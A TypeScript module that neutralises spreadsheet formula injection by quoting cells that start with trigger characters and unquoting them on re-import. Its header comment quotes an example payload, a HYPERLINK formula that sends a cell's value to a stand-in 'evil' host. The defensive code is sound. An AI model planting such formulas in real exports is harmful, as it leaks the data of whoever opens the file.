/**
 * Spreadsheet formula injection (OWASP "CSV Injection"): a text cell that starts with =, +,
 * -, @, a tab or a carriage return is written as text, yet Excel, LibreOffice and others
 * evaluate it as a formula once a user edits the cell (or opens a CSV made from the file),
 * so an asset named `=HYPERLINK("http://evil/?"&A1,"Click")` would run in the reader's
 * spreadsheet. OWASP's remedy: prefix such cells with a single quote, which every
 * spreadsheet program shows as text.
 *
 * Our files are also read back (export, edit, re-import must change nothing), so the prefix
 * is undone on import, exactly: a text gets the quote when it starts with a trigger, or with
 * a quote followed by a trigger or another quote; on reading, one leading quote is dropped
 * under the same condition. That is a bijection: every text reads back as it was written,
 * "'=x" too (written "''=x"), and a hand-typed "'abc" is left alone.
 */

/** The first characters that make a spreadsheet program evaluate a cell. */
const TRIGGERS = new Set(['=', '+', '-', '@', '\t', '\r']);

function escaped(text: string): boolean {
  return text.length > 1 && text[0] === "'" && (TRIGGERS.has(text[1]!) || text[1] === "'");
}

/** The text as written to a cell: quoted when a spreadsheet program could take it for a formula. */
export function neutralizeCell(text: string): string {
  return text !== '' && (TRIGGERS.has(text[0]!) || escaped(text)) ? `'${text}` : text;
}

/** A cell's text as read: the quote neutralizeCell added, taken off again. */
export function restoreCell(text: string): string {
  return escaped(text) ? text.slice(1) : text;
}
